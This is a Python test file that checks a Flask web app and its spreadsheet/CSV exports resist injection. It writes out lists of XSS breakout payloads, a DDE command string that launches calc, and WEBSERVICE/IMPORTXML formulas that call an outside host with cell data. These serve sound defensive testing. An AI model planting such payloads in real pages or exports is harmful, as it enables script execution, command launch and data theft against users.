"""What people type stays text: in every page as no element, in every export as no formula.

Payloads go into every text column of every row at once, in turn, so that every page that shows a
column meets them. `pytest --long tests/shape/test_injection.py` puts every payload into each.
"""

from __future__ import annotations

import csv
import io
import itertools
import zipfile
from collections.abc import Iterator, Sequence
from typing import Any

import openpyxl
import pytest
from bs4 import BeautifulSoup
from flask import Flask
from sqlalchemy import select

from companion.core.access import Role
from companion.core.db import db
from companion.periods.models import Period
from companion.reports.actions import Wanted, build_report
from companion.reports.files import make_file
from companion.reports.models import TemplateVersion
from companion.reports.packs import PACKS
from companion.reports.templating import fill_template
from companion.reports.terms import FileType
from tests.kit.pages import Browser
from tests.shape.crawl import fill, readings
from tests.shape.test_access import world  # noqa: F401 the fixture
from tests.shape.world import World

pytestmark = pytest.mark.sqlite_only

# Each would add an element or an attribute named zq, were it read as markup.
SCRIPTS = [
    before + payload
    for before in ("", '"', "'", "'>", '">', "</td>", "</textarea>", "</title>", "</script>", "-->")
    for payload in (
        "<zq>", "<zq/x=1", "<script zq>1</script>", "<img src=x zq=1>", " zq=1 ", "<svg/zq=1>",
        "<a href=javascript:zq zq>x</a>", "{{7*'zq'}}<zq>", "&lt;zq&gt;<zq>", "<!--><zq>",
    )
]  # fmt: skip
FORMULAS = [
    start + body
    for start in (
        "=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\u3000＝", "\u00a0=", "\t=", "'=", '"=',
        "\n=", ";=", ",=", "%0A=", "=+", "=-",
    )
    for body in (
        "1+1zq", 'HYPERLINK("http://zq.invalid","x")', "cmd|' /C calc'!A0zq", "SUM(A1:A2)*9&zq",
        '"zq"&"b"', 'IMPORTXML("http://zq.invalid","//a")', 'WEBSERVICE("http://zq.invalid/"&A1)',
        'DDE("zq","x")', "zq!A1", "IF(TRUE,zq,1)",
    )
]  # fmt: skip


def numbered(payloads: list[str], offset: int) -> Iterator[str]:
    """Every payload in turn with a number behind it, so that no two values are equal."""
    for number in itertools.count():
        yield f"{payloads[(number + offset) % len(payloads)]} {number}"


def groups(payloads: list[str], size: int = 10) -> list[str]:
    """The payloads in texts of ten: each brings its own way out of what stands before it."""
    return [" ".join(payloads[at : at + size]) for at in range(0, len(payloads), size)]


def added(data: bytes) -> list[str]:
    """Elements and attributes of the page that came out of a payload."""
    soup = BeautifulSoup(data, "html5lib")
    return [
        str(tag)[:120]
        for tag in soup.find_all(True)
        if "zq" in tag.name or any("zq" in name for name in tag.attrs)
        if not str(tag.get("href", "")).startswith(("/", "http"))
    ]


Address = tuple[Role, str, str]  # who asks, how, for what


def _asked(app: Flask, made: World, browsers: dict[Role, Browser]) -> Iterator[tuple[Address, Any]]:
    for role, browser in browsers.items():
        for path, answer in readings(app, made, browser):
            yield (role, answer.request.method, path), answer


def pages_with_added_elements(app: Flask, made: World, offsets: range) -> list[str]:
    """Addresses whose page was changed by a payload; each offset moves the payloads on by one.

    Pages that show no payload at all in the first round are left out of the others.
    """
    found, showing = [], []
    browsers = {role: Browser(app).sign_in_as(made.users[role]) for role in Role}
    for number, offset in enumerate(offsets):
        fill(numbered(groups(SCRIPTS), offset))
        if number:
            answers = [(at, browsers[at[0]].raw(at[1], at[2])) for at in showing]
        else:
            answers = list(_asked(app, made, browsers))
        for at, answer in answers:
            data = answer.get_data()
            if answer.mimetype == "text/html" and b"zq" in data:
                if not number:
                    showing.append(at)
                found += [f"{at} {offset}: {tag}" for tag in added(data)]
    assert len(showing) > 50, "the payloads are shown nowhere"
    return found


def live_formulas(app: Flask, made: World, offsets: range) -> list[str]:
    """Cells of exports in which a payload would be calculated; each offset moves them on by one."""
    found, files, shown = [], [], 0
    roles = (Role.COORDINATOR, Role.OFFICIAL, Role.MUNICIPALITY, Role.AUDITOR)
    browsers = {role: Browser(app).sign_in_as(made.users[role]) for role in roles}
    for number, offset in enumerate(offsets):
        fill(numbered(FORMULAS, offset))
        if number:
            answers = [(at, browsers[at[0]].raw(at[1], at[2])) for at in files]
        else:
            answers = list(_asked(app, made, browsers))
        for at, answer in answers:
            if "sheet" in answer.mimetype or answer.mimetype == "text/csv":
                if not number:
                    files.append(at)
                found += [f"{at} {offset}: {cell}" for cell in live_in(answer.get_data())]
        # Both kinds of CSV are guarded by the same line: one round looks at the older one too.
        kinds = (FileType.XLSX, FileType.CSV, *([] if number else [FileType.CSV_CP932]))
        for name, data in report_files(kinds):
            shown += 1
            found += [f"{name} {offset}: {cell}" for cell in live_in(data)]
    assert len(files) > 5
    assert shown >= 40 * len(offsets), shown
    return found


def report_files(kinds: Sequence[FileType]) -> Iterator[tuple[str, bytes]]:
    """Every report in each edition as each kind of file."""
    period = db.session.scalars(select(Period).where(Period.fiscal_year == 2025)).one()
    for pack in PACKS.values():
        for edition in pack.editions:
            report = build_report(period, Wanted(pack.id, edition))
            for kind in kinds:
                yield f"{pack.id} {edition} {kind}", make_file(report, kind).data
    for version in db.session.scalars(select(TemplateVersion)):
        report = build_report(period, Wanted(version.template.pack))
        yield f"template {version.id}", fill_template(report, version).data


def live_in(data: bytes) -> list[Any]:
    """The cells of a workbook, a CSV or an archive of CSVs that a payload makes calculate."""
    if not data.startswith(b"PK"):
        return _unguarded(data.decode("utf-8-sig"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        lists = [archive.read(name) for name in archive.namelist() if name.endswith(".csv")]
    if not lists:
        return _formulas(data)
    found: list[Any] = []
    for one in lists:
        try:
            found += _unguarded(one.decode("utf-8-sig"))
        except UnicodeDecodeError:
            found += _unguarded(one.decode("cp932"))
    return found


def _formulas(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and "zq" in str(cell.value)
    ]


def _unguarded(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if "zq" in cell and cell.lstrip(" \u00a0\u3000\t\r\n").startswith(tuple("=+-@＝＋－＠"))
    ]


def part(request: pytest.FixtureRequest, number: int, payloads: list[str]) -> range:
    """One offset; with `--long` half of all, so that every column takes every payload."""
    if request.config.getoption("--long"):
        return range(number * len(payloads) // 2, (number + 1) * len(payloads) // 2)
    return range(number * 3, number * 3 + 1)


@pytest.mark.parametrize("number", range(2))
def test_no_payload_becomes_an_element(
    app: Flask,
    world: World,  # noqa: F811
    number: int,
    request: pytest.FixtureRequest,
) -> None:
    assert len(SCRIPTS) >= 100
    assert pages_with_added_elements(app, world, part(request, number, groups(SCRIPTS))) == []


@pytest.mark.parametrize("number", range(2))
def test_no_payload_becomes_a_formula(
    app: Flask,
    world: World,  # noqa: F811
    number: int,
    request: pytest.FixtureRequest,
) -> None:
    assert len(FORMULAS) >= 200
    assert live_formulas(app, world, part(request, number, FORMULAS)) == []
